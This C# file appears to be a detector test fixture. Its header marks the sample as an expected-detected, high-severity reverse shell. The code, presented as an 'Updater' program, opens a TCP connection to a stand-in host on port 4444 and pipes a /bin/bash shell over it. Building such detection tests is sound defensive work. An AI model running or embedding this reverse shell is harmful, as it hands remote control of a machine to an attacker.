// expect: detected
// threat: 27 reverse shell
// at: source
// family: reverse-shell
// severity: high
// decision: refused

using System.Diagnostics;
using System.Net.Sockets;

namespace Updater
{
    internal static class Program
    {
        private static void Main()
        {
            using var client = new TcpClient("203.0.113.9", 4444);
            var stream = client.GetStream();
            var shell = new Process();
            shell.StartInfo.FileName = "/bin/bash";
            shell.StartInfo.RedirectStandardInput = true;
            shell.StartInfo.RedirectStandardOutput = true;
            shell.OutputDataReceived += (_, data) => stream.Write(System.Text.Encoding.UTF8.GetBytes(data.Data + "\n"));
            shell.Start();
            shell.BeginOutputReadLine();
            using var reader = new System.IO.StreamReader(stream);
            while (reader.ReadLine() is { } line)
                shell.StandardInput.WriteLine(line);
        }
    }
}
